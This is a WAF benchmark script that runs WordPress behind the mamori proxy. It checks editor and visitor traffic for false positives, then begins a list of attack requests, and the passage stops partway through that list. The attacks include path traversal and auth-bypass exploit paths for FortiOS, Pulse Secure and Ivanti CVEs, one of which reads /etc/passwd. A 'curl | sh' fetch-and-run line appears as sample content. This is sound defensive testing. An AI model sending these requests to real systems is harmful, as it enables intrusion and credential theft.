#!/usr/bin/env node
/**
 * mamori's WAF in front of a real WordPress (issue 11 §6): Debian's wordpress package on nginx and
 * php-fpm, `mamori up` with CRS at paranoia level 1 and mamori's rule pack, then
 *
 *   1. an editor's day through mamori: log in, open the block editor, save a post with code samples
 *      (block editor REST API and the classic form), autosave, upload an image, a visitor's comment,
 *      a search; every refusal is a false positive, with the rule ids from the WAF's audit log;
 *   2. attacks through mamori: the exploit requests for the VPN-appliance and WordPress advisories of
 *      mamori's rule pack, XML-RPC brute force, webshell uploads, probes, SQLi and XSS;
 *
 * once without exclusions and once with the exclusions of docs/waf.md ("WordPress behind mamori"),
 * and prints expected against actual for each request.
 *
 *   node bench/real/wordpress.mjs [--pass bare|excluded|both] [--keep] [--json FILE]
 *
 * Needs (else it says what is missing and exits 0): root (it writes /etc/wordpress/config-mamoriwpreal.php
 * and runs php-fpm as www-data), Debian's wordpress, nginx, php-fpm and php-mysql packages (and a theme,
 * e.g. wordpress-theme-twentytwentythree), a MariaDB/MySQL server at 127.0.0.1:3306 whose root logs in
 * without a password (or MAMORI_WP_DB_ROOT_ARGS, e.g. "-uroot -psecret"), CRS 4 (MAMORI_CRS_DIR, default
 * /work/shared/data/crs) and libinjection's data (MAMORI_LIBINJECTION_DIR, default
 * /work/shared/data/libinjection), and the repository built (`npx tsc -b`).
 *
 * Ports: nginx 127.0.0.1:8081, mamori 127.0.0.1:8090 (MAMORI_WP_NGINX_PORT, MAMORI_WP_PROXY_PORT).
 * Work files in /tmp/mamori-wpreal (configs, logs, mamori's data_dir). It starts php-fpm, nginx and
 * mamori itself and stops them at the end (--keep leaves nginx and php-fpm running). WordPress's
 * files are never copied into the repository; the database is `mamori_wpreal`.
 */
import { spawn, execFileSync } from 'node:child_process';
import { existsSync, rmSync, mkdirSync, writeFileSync, readFileSync, statSync, readdirSync, openSync, readSync, closeSync, chownSync } from 'node:fs';
import { request } from 'node:http';
import { connect } from 'node:net';
import { deflateSync } from 'node:zlib';
import { dirname, join, resolve } from 'node:path';
import { fileURLToPath } from 'node:url';
import { randomBytes } from 'node:crypto';

const ROOT = resolve(dirname(fileURLToPath(import.meta.url)), '../..');
const WORK = '/tmp/mamori-wpreal';
const NGINX_PORT = Number(process.env.MAMORI_WP_NGINX_PORT ?? 8081);
const PROXY_PORT = Number(process.env.MAMORI_WP_PROXY_PORT ?? 8090);
const SITE = `${process.env.MAMORI_WP_HOST ?? 'wp.mamori.test'}:${PROXY_PORT}`;
const CRS = process.env.MAMORI_CRS_DIR ?? '/work/shared/data/crs';
const LIBINJECTION = process.env.MAMORI_LIBINJECTION_DIR ?? '/work/shared/data/libinjection';
const DB = 'mamori_wpreal';
const DB_USER = 'mamori_wpreal';
const DB_PASS = 'wpreal-bench-only';
const WP_CONFIG_NAME = 'mamoriwpreal';
const ADMIN = { user: 'benchadmin', pass: 'Adm1n-bench-pass!' };
const EDITOR = { user: 'bencheditor', pass: 'Ed1tor-bench-pass!' };

const args = process.argv.slice(2);
const opt = (name, dflt) => {
  const i = args.indexOf(name);
  return i >= 0 ? args[i + 1] : dflt;
};
const PASSES = opt('--pass', 'both') === 'both' ? ['bare', 'excluded'] : [opt('--pass')];
const KEEP = args.includes('--keep');
const JSON_OUT = opt('--json', undefined);

// ---------------------------------------------------------------------------------------------
// The exclusions documented in docs/waf.md, section "WordPress behind mamori: exclusions for
// editors". Keep the two in step.
// ---------------------------------------------------------------------------------------------
const EDITOR_EXCLUSIONS_YAML = readFileSync(join(ROOT, 'bench/real/wordpress-exclusions.yaml'), 'utf8');

// ---------------------------------------------------------------------------------------------
// Setup checks
// ---------------------------------------------------------------------------------------------
function skip(reason) {
  console.log(`skip: ${reason}`);
  process.exit(0);
}

function findPhpFpm() {
  for (const f of readdirSync('/usr/sbin').sort().reverse()) if (/^php-fpm\d+\.\d+$/.test(f)) return join('/usr/sbin', f);
  return undefined;
}

function checks() {
  if (process.getuid?.() !== 0) skip('run as root (writes /etc/wordpress/config-mamoriwpreal.php, runs php-fpm as www-data)');
  if (!existsSync('/usr/share/wordpress/wp-settings.php')) skip("Debian's wordpress package is not installed (apt-get install wordpress)");
  if (!existsSync('/usr/sbin/nginx')) skip('nginx is not installed (apt-get install nginx)');
  const fpm = findPhpFpm();
  if (!fpm) skip('php-fpm is not installed (apt-get install php-fpm php-mysql)');
  const ini = execFileSync('php', ['-m'], { encoding: 'utf8' });
  if (!/mysqli/.test(ini)) skip('php-mysql is not installed (apt-get install php-mysql)');
  const themes = ['/usr/share/wordpress/wp-content/themes', '/var/lib/wordpress/wp-content/themes'].flatMap((d) => (existsSync(d) ? readdirSync(d) : []));
  if (!themes.some((t) => t.startsWith('twenty'))) skip('no WordPress theme (apt-get install wordpress-theme-twentytwentythree)');
  try {
    mysql('SELECT 1');
  } catch (err) {
    skip(`no MariaDB/MySQL at 127.0.0.1:3306 for root (${String(err.message).split('\n')[0]})`);
  }
  if (!existsSync(join(CRS, 'rules'))) skip(`no CRS 4 at ${CRS} (set MAMORI_CRS_DIR)`);
  if (!existsSync(LIBINJECTION)) skip(`no libinjection data at ${LIBINJECTION} (set MAMORI_LIBINJECTION_DIR)`);
  if (!existsSync(join(ROOT, 'packages/cli/dist'))) skip('mamori is not built (npx tsc -b)');
  return fpm;
}

function mysql(sql, db) {
  const rootArgs = (process.env.MAMORI_WP_DB_ROOT_ARGS ?? '-uroot').split(' ').filter(Boolean);
  return execFileSync('mysql', ['-h127.0.0.1', '-P3306', ...rootArgs, '--batch', '--skip-column-names', ...(db ? [db] : []), '-e', sql], { encoding: 'utf8' });
}

// ---------------------------------------------------------------------------------------------
// nginx, php-fpm, WordPress
// ---------------------------------------------------------------------------------------------
const children = [];

function start(name, cmd, argv) {
  const out = openSync(join(WORK, `${name}.log`), 'a');
  // With --keep, nginx and php-fpm get a session of their own, so they outlive this script.
  const keep = KEEP && (name === 'nginx' || name === 'php-fpm');
  const child = spawn(cmd, argv, { stdio: ['ignore', out, out], detached: keep });
  if (keep) child.unref();
  children.push({ name, child });
  child.on('exit', (code, sig) => {
    if (!child.stopping) console.log(`${name} exited (${code ?? sig}); see ${join(WORK, `${name}.log`)}`);
  });
  return child;
}

async function stop(child) {
  if (child.exitCode !== null || child.signalCode !== null) return;
  child.stopping = true;
  const done = new Promise((r) => child.once('exit', r));
  child.kill('SIGTERM');
  await Promise.race([done, sleep(5000)]);
  if (child.exitCode === null && child.signalCode === null) child.kill('SIGKILL');
}

const sleep = (ms) => new Promise((r) => setTimeout(r, ms));

async function waitPort(port, what, ms = 30_000) {
  const end = Date.now() + ms;
  while (Date.now() < end) {
    const ok = await new Promise((r) => {
      const s = connect(port, '127.0.0.1', () => (s.end(), r(true)));
      s.on('error', () => r(false));
    });
    if (ok) return;
    await sleep(200);
  }
  throw new Error(`${what} did not listen on 127.0.0.1:${port} within ${ms / 1000} s`);
}

function portFree(port) {
  return new Promise((r) => {
    const s = connect(port, '127.0.0.1', () => (s.end(), r(false)));
    s.on('error', () => r(true));
  });
}

async function setupServers(fpm) {
  mkdirSync(WORK, { recursive: true });
  writeFileSync(
    `/etc/wordpress/config-${WP_CONFIG_NAME}.php`,
    `<?php
# mamori bench/real/wordpress.mjs: the WordPress behind mamori (local test site only)
define('DB_NAME', '${DB}');
define('DB_USER', '${DB_USER}');
define('DB_PASSWORD', '${DB_PASS}');
define('DB_HOST', '127.0.0.1:3306');
define('WP_CONTENT_DIR', '/var/lib/wordpress/wp-content');
define('WP_HOME', 'http://${SITE}');
define('WP_SITEURL', 'http://${SITE}');
define('AUTOMATIC_UPDATER_DISABLED', true);
define('WP_HTTP_BLOCK_EXTERNAL', true);
define('DISABLE_WP_CRON', true);
${['AUTH_KEY', 'SECURE_AUTH_KEY', 'LOGGED_IN_KEY', 'NONCE_KEY', 'AUTH_SALT', 'SECURE_AUTH_SALT', 'LOGGED_IN_SALT', 'NONCE_SALT'].map((k) => `define('${k}', '${randomBytes(24).toString('hex')}');`).join('\n')}
`,
    { mode: 0o640 },
  );
  chownSync(`/etc/wordpress/config-${WP_CONFIG_NAME}.php`, 0, Number(execFileSync('id', ['-g', 'www-data'], { encoding: 'utf8' }).trim()));
  // uploads must be writable by php-fpm's user
  const wwwUid = Number(execFileSync('id', ['-u', 'www-data'], { encoding: 'utf8' }).trim());
  const wwwGid = Number(execFileSync('id', ['-g', 'www-data'], { encoding: 'utf8' }).trim());
  mkdirSync('/var/lib/wordpress/wp-content/uploads', { recursive: true });
  chownSync('/var/lib/wordpress/wp-content/uploads', wwwUid, wwwGid);

  const sock = join(WORK, 'php-fpm.sock');
  writeFileSync(
    join(WORK, 'php-fpm.conf'),
    `[global]
pid = ${WORK}/php-fpm.pid
error_log = ${WORK}/php-fpm-error.log
daemonize = no

[wpreal]
user = www-data
group = www-data
listen = ${sock}
listen.owner = www-data
listen.group = www-data
listen.mode = 0666
pm = static
pm.max_children = 4
php_admin_value[upload_max_filesize] = 16M
php_admin_value[post_max_size] = 20M
php_admin_value[error_log] = ${WORK}/php-error.log
catch_workers_output = yes
`,
  );
  writeFileSync(
    join(WORK, 'nginx.conf'),
    `# mamori bench/real/wordpress.mjs: Debian's WordPress on 127.0.0.1:${NGINX_PORT}
worker_processes 1;
pid ${WORK}/nginx.pid;
error_log ${WORK}/nginx-error.log;
events { worker_connections 256; }
http {
  include /etc/nginx/mime.types;
  default_type application/octet-stream;
  access_log ${WORK}/nginx-access.log;
  client_body_temp_path ${WORK}/nginx-body;
  fastcgi_temp_path ${WORK}/nginx-fastcgi;
  proxy_temp_path ${WORK}/nginx-proxy;
  uwsgi_temp_path ${WORK}/nginx-uwsgi;
  scgi_temp_path ${WORK}/nginx-scgi;
  client_max_body_size 20m;
  server {
    listen 127.0.0.1:${NGINX_PORT};
    server_name _;
    root /usr/share/wordpress;
    index index.php;
    location / { try_files $uri $uri/ /index.php?$args; }
    location ~ ^/wp-content/(.*)$ { alias /var/lib/wordpress/wp-content/$1; }
    location ~ \\.php$ {
      try_files $uri =404;
      include /etc/nginx/fastcgi_params;
      fastcgi_param SCRIPT_FILENAME $document_root$fastcgi_script_name;
      fastcgi_param WORDPRESS_CONFIG ${WP_CONFIG_NAME};
      # Debian's fastcgi_params sends $host (no port) as HTTP_HOST; WordPress then redirects every
      # page to itself when it lives on a port. The Host as sent, as nginx.org's example does.
      fastcgi_param HTTP_HOST $http_host;
      fastcgi_pass unix:${sock};
    }
  }
}
`,
  );
  for (const [port, what] of [
    [NGINX_PORT, 'nginx'],
    [PROXY_PORT, 'mamori'],
  ])
    if (!(await portFree(port))) throw new Error(`127.0.0.1:${port} (for ${what}) is taken: stop what listens there or set MAMORI_WP_${what === 'nginx' ? 'NGINX' : 'PROXY'}_PORT`);

  mysql(
    `CREATE DATABASE IF NOT EXISTS ${DB} CHARACTER SET utf8mb4; CREATE USER IF NOT EXISTS '${DB_USER}'@'127.0.0.1' IDENTIFIED BY '${DB_PASS}'; CREATE USER IF NOT EXISTS '${DB_USER}'@'localhost' IDENTIFIED BY '${DB_PASS}'; GRANT ALL ON ${DB}.* TO '${DB_USER}'@'127.0.0.1'; GRANT ALL ON ${DB}.* TO '${DB_USER}'@'localhost';`,
  );
  start('php-fpm', fpm, ['-F', '-y', join(WORK, 'php-fpm.conf')]);
  start('nginx', '/usr/sbin/nginx', ['-c', join(WORK, 'nginx.conf'), '-g', 'daemon off;']);
  await waitPort(NGINX_PORT, 'nginx');
  for (let i = 0; i < 50 && !existsSync(sock); i++) await sleep(100);
}

async function installWordPress() {
  // Talk to nginx directly with the Host mamori's clients use, so that WordPress's URLs point at mamori.
  const direct = new Client(NGINX_PORT);
  const installed = mysql(`SHOW TABLES LIKE 'wp_options'`, DB).trim() !== '';
  if (!installed) {
    const r = await direct.post('/wp-admin/install.php?step=2', form({
      weblog_title: 'mamori bench',
      user_name: ADMIN.user,
      admin_password: ADMIN.pass,
      admin_password2: ADMIN.pass,
      pw_weak: '1',
      admin_email: 'admin@example.test',
      blog_public: '0',
      language: '',
      Submit: 'Install WordPress',
    }));
    if (r.status !== 200 || !/Success!|install-success/i.test(r.text)) throw new Error(`WordPress install failed: ${r.status} ${r.text.slice(0, 300)}`);
  }
  // Pretty permalinks (so /wp-json/ routes, as on most sites), and an editor account.
  // Comments are published without moderation, so that a comment refused by nobody shows as posted.
  mysql(`UPDATE wp_options SET option_value='/%year%/%monthnum%/%postname%/' WHERE option_name='permalink_structure'; UPDATE wp_options SET option_value='' WHERE option_name='rewrite_rules'; UPDATE wp_options SET option_value='0' WHERE option_name='comment_moderation'; UPDATE wp_options SET option_value='0' WHERE option_name='comment_previously_approved';`, DB);
  const exists = mysql(`SELECT ID FROM wp_users WHERE user_login='${EDITOR.user}'`, DB).trim();
  if (!exists) {
    // WordPress accepts an MD5 hash in user_pass and rehashes it at the first login.
    mysql(
      `INSERT INTO wp_users (user_login,user_pass,user_nicename,user_email,user_registered,display_name) VALUES ('${EDITOR.user}', MD5('${EDITOR.pass}'), '${EDITOR.user}', 'editor@example.test', NOW(), 'Bench Editor');
       SET @id = LAST_INSERT_ID();
       INSERT INTO wp_usermeta (user_id,meta_key,meta_value) VALUES (@id,'wp_capabilities','a:1:{s:6:"editor";b:1;}'), (@id,'wp_user_level','7'), (@id,'rich_editing','true'), (@id,'show_welcome_panel','0');`,
      DB,
    );
  }
}

// ---------------------------------------------------------------------------------------------
// A small HTTP client with a cookie jar (node:http sends the path as given: ../ stays)
// ---------------------------------------------------------------------------------------------
class Client {
  constructor(port, host = SITE) {
    this.port = port;
    this.host = host;
    this.jar = new Map();
  }

  cookieHeader() {
    return [...this.jar].map(([k, v]) => `${k}=${v}`).join('; ');
  }

  send(method, path, { headers = {}, body } = {}) {
    const h = { Host: this.host, 'User-Agent': 'Mozilla/5.0 (X11; Linux x86_64; rv:120.0) Gecko/20100101 Firefox/120.0', Accept: 'text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8', 'Accept-Language': 'en-US,en;q=0.5', ...headers };
    if (this.jar.size && !('Cookie' in h)) h.Cookie = this.cookieHeader();
    if (body !== undefined) h['Content-Length'] = Buffer.byteLength(body);
    return new Promise((res, rej) => {
      const req = request({ host: '127.0.0.1', port: this.port, method, path, headers: h, agent: false, insecureHTTPParser: true }, (r) => {
        const chunks = [];
        r.on('data', (c) => chunks.push(c));
        r.on('end', () => {
          for (const c of [r.headers['set-cookie'] ?? []].flat()) {
            const m = /^([^=;\s]+)=([^;]*)/.exec(c);
            if (!m) continue;
            if (/expires=Thu, 01[- ]Jan[- ]1970|max-age=0\b/i.test(c) || m[2] === 'deleted' || m[2] === '+') this.jar.delete(m[1]);
            else this.jar.set(m[1], m[2]);
          }
          const buf = Buffer.concat(chunks);
          res({ status: r.statusCode, headers: r.headers, text: buf.toString('utf8') });
        });
      });
      req.setTimeout(60_000, () => req.destroy(new Error(`timeout on ${method} ${path}`)));
      req.on('error', (err) => res({ status: 0, headers: {}, text: String(err.message) }));
      if (body !== undefined) req.write(body);
      req.end();
    });
  }

  get(path, o) {
    return this.send('GET', path, o);
  }

  post(path, { body, contentType }, headers = {}) {
    return this.send('POST', path, { body, headers: { 'Content-Type': contentType, Origin: `http://${SITE}`, ...headers } });
  }
}

function form(fields) {
  return { body: new URLSearchParams(fields).toString(), contentType: 'application/x-www-form-urlencoded' };
}

function json(value) {
  return { body: JSON.stringify(value), contentType: 'application/json' };
}

function xml(text) {
  return { body: text, contentType: 'text/xml' };
}

/** multipart/form-data as Firefox writes it; files: [{ field, filename, type, data }] */
function multipart(fields, files = []) {
  const boundary = `---------------------------${randomBytes(12).toString('hex')}`;
  const parts = [];
  for (const [k, v] of Object.entries(fields)) parts.push(Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="${k}"\r\n\r\n${v}\r\n`));
  for (const f of files) {
    parts.push(Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="${f.field}"; filename="${f.filename}"\r\nContent-Type: ${f.type}\r\n\r\n`));
    parts.push(Buffer.isBuffer(f.data) ? f.data : Buffer.from(f.data));
    parts.push(Buffer.from('\r\n'));
  }
  parts.push(Buffer.from(`--${boundary}--\r\n`));
  return { body: Buffer.concat(parts), contentType: `multipart/form-data; boundary=${boundary}` };
}

/** A real photograph when the system has one (Debian's libjs-cropper docs), else a PNG drawn here. */
function photo() {
  for (const f of ['/usr/share/doc/libjs-cropper/tests/castle.jpg', '/usr/share/doc/libjs-cropper/tests/poppy.jpg']) if (existsSync(f)) return { filename: 'castle.jpg', type: 'image/jpeg', data: readFileSync(f) };
  return { filename: 'gradient.png', type: 'image/png', data: png(64, 48) };
}

function png(w, h) {
  const crcTable = Array.from({ length: 256 }, (_, n) => {
    let c = n;
    for (let k = 0; k < 8; k++) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1;
    return c >>> 0;
  });
  const crc = (b) => {
    let c = 0xffffffff;
    for (const x of b) c = crcTable[(c ^ x) & 0xff] ^ (c >>> 8);
    return (c ^ 0xffffffff) >>> 0;
  };
  const chunk = (type, data) => {
    const len = Buffer.alloc(4);
    len.writeUInt32BE(data.length);
    const td = Buffer.concat([Buffer.from(type), data]);
    const c = Buffer.alloc(4);
    c.writeUInt32BE(crc(td));
    return Buffer.concat([len, td, c]);
  };
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(w, 0);
  ihdr.writeUInt32BE(h, 4);
  ihdr[8] = 8;
  ihdr[9] = 2;
  const raw = Buffer.alloc((w * 3 + 1) * h);
  for (let y = 0; y < h; y++) for (let x = 0; x < w; x++) raw.set([(x * 4) & 255, (y * 5) & 255, 128], y * (w * 3 + 1) + 1 + x * 3);
  return Buffer.concat([Buffer.from([137, 80, 78, 71, 13, 10, 26, 10]), chunk('IHDR', ihdr), chunk('IDAT', deflateSync(raw)), chunk('IEND', Buffer.alloc(0))]);
}

const pick = (re, text, what) => {
  const m = re.exec(text);
  if (!m) throw new Error(`could not find ${what} in the page`);
  return m[1];
};

// ---------------------------------------------------------------------------------------------
// mamori up, and its audit log
// ---------------------------------------------------------------------------------------------
function mamoriConfig(pass) {
  const dataDir = join(WORK, `data-${pass}`);
  const lines = [
    '# mamori bench/real/wordpress.mjs',
    `data_dir: ${dataDir}`,
    'mode: enforce',
    'proxy:',
    `  listen: 127.0.0.1:${PROXY_PORT}`,
    `  upstream: http://127.0.0.1:${NGINX_PORT}`,
    'logins:',
    '  - preset: wordpress',
    'waf:',
    `  crs: ${CRS}`,
    `  libinjection: ${LIBINJECTION}`,
    '  paranoia: 1',
    '  # the bench sends every attack from 127.0.0.1: no block decision for the source',
    '  block_sources: { after: 0 }',
  ];
  if (pass === 'excluded') lines.push(...EDITOR_EXCLUSIONS_YAML.split('\n').filter((l) => l.trim() !== '').map((l) => `  ${l}`));
  const file = join(WORK, `mamori-${pass}.yaml`);
  writeFileSync(file, `${lines.join('\n')}\n`);
  return { file, dataDir };
}

class Audit {
  constructor(path) {
    this.path = path;
    this.offset = existsSync(path) ? statSync(path).size : 0;
  }

  /** Lines written since the last call (waits a moment: the log is written after the answer). */
  async take(expectAny) {
    let out = [];
    for (let i = 0; i < (expectAny ? 20 : 3); i++) {
      await sleep(50);
      out = out.concat(this.#read());
      if (out.length && !expectAny) break;
      if (out.length && expectAny) {
        await sleep(30);
        out = out.concat(this.#read());
        break;
      }
    }
    return out;
  }

  #read() {
    if (!existsSync(this.path)) return [];
    const size = statSync(this.path).size;
    if (size <= this.offset) return [];
    const buf = Buffer.alloc(size - this.offset);
    const fd = openSync(this.path, 'r');
    readSync(fd, buf, 0, buf.length, this.offset);
    closeSync(fd);
    const text = buf.toString('utf8');
    const end = text.lastIndexOf('\n') + 1;
    this.offset += Buffer.byteLength(text.slice(0, end));
    return text
      .slice(0, end)
      .split('\n')
      .filter(Boolean)
      .map((l) => JSON.parse(l));
  }
}

async function startMamori(pass) {
  const { file, dataDir } = mamoriConfig(pass);
  rmSync(dataDir, { recursive: true, force: true });
  mkdirSync(dataDir, { recursive: true });
  const child = start(`mamori-${pass}`, process.execPath, [join(ROOT, 'packages/cli/bin/mamori.js'), 'up', '--config', file]);
  await waitPort(PROXY_PORT, 'mamori up', 120_000);
  return { child, audit: new Audit(join(dataDir, 'waf-audit.jsonl')), dataDir, file };
}

// ---------------------------------------------------------------------------------------------
// What an editor and a visitor do (each should pass), and attacks (each should be refused)
// ---------------------------------------------------------------------------------------------
const SNIPPETS = {
  shell: { label: 'shell: curl | sh', block: 'curl -s https://example.com/install.sh | sh' },
  sql: { label: 'SQL: SELECT ... WHERE', block: 'SELECT * FROM users WHERE id = 1;' },
  script: { label: 'HTML: <script> in a code block', block: "<script>document.getElementById('out').textContent = 'hi';</script>" },
  php: { label: 'PHP: <?php echo $x; ?>', block: '<?php echo $x; ?>' },
};
const esc = (s) => s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;');
/** The block editor's serialisation of a paragraph and a code block (the code is HTML-escaped, as Gutenberg stores it). */
const blockContent = (code) => `<!-- wp:paragraph -->\n<p>Here is how to do it:</p>\n<!-- /wp:paragraph -->\n\n<!-- wp:code -->\n<pre class="wp-block-code"><code>${esc(code)}</code></pre>\n<!-- /wp:code -->`;
/** What the classic editor (TinyMCE) posts for the same: HTML with the code escaped in <pre><code>. */
const classicContent = (code) => `<p>Here is how to do it:</p>\n<pre><code>${esc(code)}</code></pre>`;

function editorSteps() {
  const c = {};
  const steps = [];
  const step = (name, run, kind = 'editor') => steps.push({ kind, name, expect: 'pass', run });
  step('GET /wp-login.php', async () => {
    c.ed = new Client(PROXY_PORT);
    return c.ed.get('/wp-login.php');
  });
  step('POST /wp-login.php (editor logs in)', () =>
    c.ed.post('/wp-login.php', form({ log: EDITOR.user, pwd: EDITOR.pass, rememberme: 'forever', 'wp-submit': 'Log In', redirect_to: `http://${SITE}/wp-admin/`, testcookie: '1' }), { Referer: `http://${SITE}/wp-login.php` }),
  );
  step('GET /wp-admin/ (dashboard)', () => c.ed.get('/wp-admin/'));
  const openEditor = async () => {
    const r = await c.ed.get('/wp-admin/post-new.php');
    if (r.status === 200) {
      c.postId = pick(/name=['"]post_ID['"] value=['"](\d+)['"]/, r.text, 'post_ID');
      c.postNonce = pick(/id="_wpnonce" name="_wpnonce" value="([0-9a-f]+)"/, r.text, '_wpnonce');
      c.restNonce = pick(/createNonceMiddleware\(\s*"([0-9a-f]+)"/, r.text, 'the REST nonce');
    }
    return r;
  };
  step('GET /wp-admin/post-new.php (block editor)', openEditor);
  const rest = (method, path, body, extra = {}) => {
    const h = { 'X-WP-Nonce': c.restNonce, Accept: 'application/json, */*;q=0.1', ...extra };
    return body === undefined ? c.ed.send(method, path, { headers: h }) : c.ed.post(path, body, h);
  };
  step('GET /wp-json/wp/v2/posts/<id>?context=edit', () => rest('GET', `/wp-json/wp/v2/posts/${c.postId}?context=edit&_locale=user`));
  step('GET /wp-json/wp/v2/types?context=view', () => rest('GET', '/wp-json/wp/v2/types?context=view&_locale=user'));
  step('GET /wp-json/wp/v2/users/me', () => rest('GET', '/wp-json/wp/v2/users/me?_locale=user'));
  for (const [key, s] of Object.entries(SNIPPETS)) {
    step(`REST autosave, ${s.label}`, () =>
      rest('POST', `/wp-json/wp/v2/posts/${c.postId}/autosaves?_locale=user`, json({ id: Number(c.postId), title: `Code sample: ${key}`, content: blockContent(s.block), excerpt: '' })),
    );
    step(`REST save (publish), ${s.label}`, () =>
      rest('POST', `/wp-json/wp/v2/posts/${c.postId}?_locale=user`, json({ id: Number(c.postId), title: `Code sample: ${key}`, content: blockContent(s.block), status: 'publish' }), { 'X-HTTP-Method-Override': 'PUT' }),
    );
  }
  step('REST save, all four samples in one post', () =>
    rest('POST', `/wp-json/wp/v2/posts/${c.postId}?_locale=user`, json({ id: Number(c.postId), title: 'All the samples', content: Object.values(SNIPPETS).map((s) => blockContent(s.block)).join('\n\n'), status: 'publish' }), { 'X-HTTP-Method-Override': 'PUT' }),
  );
  step('REST save via /index.php?rest_route= (plain permalinks), all samples', () =>
    rest('POST', `/index.php?rest_route=${encodeURIComponent(`/wp/v2/posts/${c.postId}`)}&_locale=user`, json({ id: Number(c.postId), title: 'All the samples', content: Object.values(SNIPPETS).map((s) => blockContent(s.block)).join('\n\n'), status: 'publish' }), { 'X-HTTP-Method-Override': 'PUT' }),
  );
  for (const [key, s] of Object.entries(SNIPPETS)) {
    step(`classic form POST /wp-admin/post.php, ${s.label}`, async () => {
      const open = await openEditor();
      if (open.status !== 200) return open;
      return c.ed.post(
        '/wp-admin/post.php',
        form({
          _wpnonce: c.postNonce,
          _wp_http_referer: '/wp-admin/post-new.php',
          user_ID: '2',
          action: 'editpost',
          originalaction: 'editpost',
          post_author: '2',
          post_type: 'post',
          original_post_status: 'auto-draft',
          referredby: `http://${SITE}/wp-admin/edit.php`,
          _wp_original_http_referer: `http://${SITE}/wp-admin/edit.php`,
          auto_draft: '1',
          post_ID: c.postId,
          'meta-box-order-nonce': '',
          closedpostboxesnonce: '',
          post_title: `Classic: ${key}`,
          samplepermalinknonce: '',
          content: classicContent(s.block),
          'wp-preview': '',
          hidden_post_status: 'draft',
          post_status: 'draft',
          hidden_post_password: '',
          hidden_post_visibility: 'public',
          visibility: 'public',
          post_password: '',
          original_publish: 'Publish',
          publish: 'Publish',
          post_format: '0',
          'post_category[]': '1',
          'tax_input[post_tag]': 'howto',
          newtag: '',
          excerpt: '',
          trackback_url: '',
          comment_status: 'open',
          ping_status: 'open',
          post_name: '',
        }),
        { Referer: `http://${SITE}/wp-admin/post-new.php` },
      );
    });
  }
  step('GET /wp-admin/media-new.php', async () => {
    const r = await c.ed.get('/wp-admin/media-new.php');
    if (r.status === 200) c.mediaNonce = pick(/"_wpnonce":"([0-9a-f]+)"/, r.text, 'the upload nonce');
    return r;
  });
  const img = photo();
  step(`upload ${img.filename} (async-upload.php, media library)`, () =>
    c.ed.post('/wp-admin/async-upload.php', multipart({ name: img.filename, action: 'upload-attachment', _wpnonce: c.mediaNonce }, [{ field: 'async-upload', ...img }]), { Referer: `http://${SITE}/wp-admin/media-new.php` }),
  );
  step(`upload ${img.filename} (block editor, POST /wp-json/wp/v2/media)`, () => rest('POST', '/wp-json/wp/v2/media?_locale=user', multipart({}, [{ field: 'file', ...img }])));
  step('GET /wp-admin/edit.php (posts list)', () => c.ed.get('/wp-admin/edit.php'));
  step('POST /wp-admin/admin-ajax.php (heartbeat)', () =>
    c.ed.post('/wp-admin/admin-ajax.php', form({ 'data[wp-refresh-post-lock][lock]': '', 'data[wp-refresh-post-lock][post_id]': c.postId, interval: '60', _nonce: c.restNonce, action: 'heartbeat', screen_id: 'post', has_focus: 'false' })),
  );

  step('POST /wp-admin/admin-ajax.php (classic editor autosave via heartbeat, code samples)', () =>
    c.ed.post('/wp-admin/admin-ajax.php', form({
      'data[wp_autosave][post_id]': c.postId,
      'data[wp_autosave][post_type]': 'post',
      'data[wp_autosave][post_author]': '2',
      'data[wp_autosave][post_title]': 'Classic autosave',
      'data[wp_autosave][content]': Object.values(SNIPPETS).map((s) => classicContent(s.block)).join('\n'),
      'data[wp_autosave][excerpt]': '',
      'data[wp_autosave][_wpnonce]': c.postNonce,
      'data[wp_autosave][catslist]': '1',
      'data[wp-refresh-post-lock][post_id]': c.postId,
      interval: '60',
      _nonce: c.restNonce,
      action: 'heartbeat',
      screen_id: 'post',
      has_focus: 'true',
    })),
  );

  // a visitor
  step('GET / (home)', async () => {
    c.v = new Client(PROXY_PORT);
    return c.v.get('/');
  }, 'visitor');
  step('GET /?p=<id> (the post)', () => c.v.get(`/?p=${c.postId}`), 'visitor');
  step('GET /?s=nginx+php-fpm (search)', () => c.v.get('/?s=nginx+php-fpm+config'), 'visitor');
  step("GET /?s=can't+select+a+block (search with an apostrophe)", () => c.v.get("/?s=can%27t+select+a+block"), 'visitor');
  step('POST /wp-comments-post.php (a comment)', () =>
    c.v.post('/wp-comments-post.php', form({ comment: "Thanks! I had to restart php8.2-fpm after changing the pool, and then it worked. Doesn't the same apply to PHP 8.3?", author: 'Jane Visitor', email: 'jane@example.test', url: 'https://jane.example.test/', submit: 'Post Comment', comment_post_ID: c.postId, comment_parent: '0' }), { Referer: `http://${SITE}/?p=${c.postId}` }),
  'visitor');
  step('POST /wp-comments-post.php (a comment quoting code)', async () => {
    await sleep(16_000); // WordPress refuses a second comment from one address within 15 s (429)
    return c.v.post('/wp-comments-post.php', form({ comment: 'Nice. On my box `curl -s https://example.com/install.sh | sh` failed until I ran it with sudo.', author: 'Sam', email: 'sam@example.test', url: '', submit: 'Post Comment', comment_post_ID: c.postId, comment_parent: '0' }), { Referer: `http://${SITE}/?p=${c.postId}` });
  }, 'visitor');
  return { steps, ctx: c };
}

function attackSteps(ctx) {
  const steps = [];
  const a = new Client(PROXY_PORT);
  const attack = (name, source, run) => steps.push({ kind: 'attack', name, source, expect: 'refuse', run });
  const get = (path, headers = {}) => () => a.get(path, { headers });

  // VPN appliances (mamori-10-vpn-appliances.conf)
  attack('FortiOS fgt_lang path traversal', 'CVE-2018-13379', get('/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession'));
  attack('FortiOS hostcheck_validate long enc', 'CVE-2023-27997', () => a.post('/remote/hostcheck_validate', form({ enc: `60e0${'41'.repeat(3000)}` })));
  attack('Pulse Secure /dana-na/ traversal', 'CVE-2019-11510', get('/dana-na/../dana/html5acc/guacamole/../../../../../../../etc/passwd?/dana/html5acc/guacamole/'));
  attack('Ivanti REST auth bypass', 'CVE-2023-46805', get('/api/v1/totp/user-backup-code/../../system/system-information'));
